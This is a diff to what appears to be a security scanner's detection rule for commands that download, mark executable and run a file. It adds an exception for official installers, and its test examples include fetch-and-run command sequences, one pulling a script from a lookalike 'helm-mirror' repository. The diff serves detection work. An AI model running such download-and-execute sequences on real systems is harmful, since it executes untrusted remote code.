@@ -119,6 +119,8 @@ export const downloadExecuteRules: Rule[] = [
       hitsOf(/\b(?:curl|wget)\b[^\n]{0,200}?(?:-o|-O|--output)\s*["']?([\w./~$-]+)/gi, segment.text, (m) => {
         const name = m[1]!.split("/").pop()!.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
         if (!name || name === "-") return false;
+        // An official installer saved and run is SR-DLEXEC-002's, at medium (exact host, scanner/allowlist.ts).
+        if (isOfficial(segment.text.slice(m.index).split("\n", 1)[0]!)) return false;
         const after = segment.text.slice(m.index + m[0].length, m.index + 4000);
         const chmod = new RegExp(`chmod\\s+(?:[ugoa]*\\+x|[0-7]{3,4})\\s+\\S*${name}\\b`).exec(after);
         if (!chmod) return false;
@@ -127,8 +129,8 @@ export const downloadExecuteRules: Rule[] = [
         return new RegExp(`(?:^|[;&|]\\s*)(?:sudo\\s+)?\\S*${name}\\b`, "m").test(tail);
       }),
     examples: {
-      positive: ["curl -sL https://example.invalid/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon"],
-      negative: ["curl -sL https://example.invalid/data.csv -o data.csv\nwc -l data.csv"],
+      positive: ["curl -sL https://example.invalid/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon", "curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm-mirror/helm/main/get\nchmod 700 get_helm.sh\n./get_helm.sh"],
+      negative: ["curl -sL https://example.invalid/data.csv -o data.csv\nwc -l data.csv", "curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3\nchmod 700 get_helm.sh\n./get_helm.sh"],
     },
   },
   {
